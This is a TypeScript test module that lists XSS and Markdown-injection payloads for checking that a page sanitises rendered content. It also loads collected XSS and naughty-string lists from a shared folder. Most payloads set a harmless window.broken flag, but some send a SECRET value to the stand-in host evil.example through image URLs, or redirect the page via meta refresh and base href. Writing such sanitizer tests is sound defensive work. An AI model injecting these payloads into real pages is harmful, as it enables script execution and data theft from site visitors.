/** What is tried against the page: our own payloads for Markdown and HTML, and what others have collected. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { z } from 'zod';
import { root } from './perch.ts';

export const OWN: readonly string[] = [
  '<script>window.broken = 1</script>',
  '<img src=x onerror="window.broken = 1">',
  '![picture](https://evil.example/?d=SECRET)',
  '![a][r]\n\n[r]: https://evil.example/?q=SECRET',
  '[press](javascript:window.broken=1)',
  '[press](data:text/html,<script>window.broken=1</script>)',
  '<svg onload="window.broken = 1"><a xlink:href="javascript:window.broken=1"><text y="9">x</text></a></svg>',
  '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
  '<form action="https://evil.example"><input name="q" autofocus onfocus="window.broken = 1"></form>',
  '<style>* { background: url(https://evil.example/css) }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
  '<math><mi xlink:href="data:x,<script>window.broken=1</script>">x</mi></math>',
  '<div style="background: url(https://evil.example/s)">x</div>',
];
const LISTS = join(root, '../shared/data/attacks/web');

/** Lines of the lists beside the project; none without them. */
export function collected(): string[] {
  if (!existsSync(LISTS)) return [];
  return readdirSync(LISTS)
    .filter((name) => /XSS|blns\.json/.test(name))
    .flatMap((name) => {
      const text = readFileSync(join(LISTS, name), 'utf8');
      return name.endsWith('.json') ? z.array(z.string()).parse(JSON.parse(text)) : text.split('\n');
    })
    .filter((line) => line.trim() !== '');
}
